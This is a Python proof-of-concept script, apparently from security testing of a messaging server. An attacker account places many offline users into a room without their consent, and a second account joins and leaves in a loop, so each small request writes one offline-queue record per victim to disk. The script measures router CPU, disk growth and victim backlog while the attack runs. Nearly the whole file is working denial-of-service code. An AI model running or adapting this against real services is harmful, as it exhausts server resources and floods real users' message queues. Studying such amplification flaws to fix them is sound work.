"""Room-event write amplification: an owner puts N offline users (no consent needed) in a room of
< --room-events-max-members; a second account joins and leaves in a loop. Each join/leave is one
20-byte request and N offline-queue records on disk.
usage: room_event_amp.py TCP PID HTTP DATADIR NVICTIMS SECONDS"""
import sys, os, time
sys.path.insert(0, os.path.dirname(__file__))
from common import *
addr, pid, http, ddir = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
n, secs = int(sys.argv[5]), float(sys.argv[6])
st = lambda d: d.get(2, [0])[0]
t0 = time.time()
for i in range(n):
    c = Conn(addr, f"v{i:05d}"); c.close()
print(f"{n} victims seen in {time.time()-t0:.1f}s")
m = Conn(addr, "mallory")
victims = [f"v{i:05d}" for i in range(n)]
m.send_frame(10, {1: 1, 2: "amp", 4: victims}); r = m.wait("room_result", 120); print("create:", st(r))
m2 = Conn(addr, "mal2")
time.sleep(2)
probe = Probe(addr, "honest", "store")
time.sleep(3)
print("idle:   ", probe.take(), state(pid, ddir, http))
t0 = time.time(); ops = 0; c0 = cpu(pid); d0 = du(ddir)
rid = 0; inflight = 0
while time.time() - t0 < secs:
    for _ in range(8):
        rid += 1; m2.send_frame(11, {1: rid, 2: "amp"})
        rid += 1; m2.send_frame(12, {1: rid, 2: "amp"})
    for _ in range(16):
        m2.wait("room_result", 60); ops += 1
    if ops % 800 == 0:
        print(f"  t={time.time()-t0:.0f}s ops={ops} {probe.take()} {state(pid, ddir, http)}", flush=True)
el = time.time() - t0
print(f"attack: {ops} join/leave in {el:.1f}s, router cpu {cpu(pid)-c0:.1f}s, disk +{(du(ddir)-d0)/2**20:.1f}MiB, {probe.take()}")
time.sleep(3)
print("after:  ", state(pid, ddir, http))
c = Conn(addr, "v00000", auto_ack=False)
cnt = 0
while c.recv(1.0) is not None: cnt += 1
print("v00000 backlog frames at login (first pages):", cnt)
probe.close()
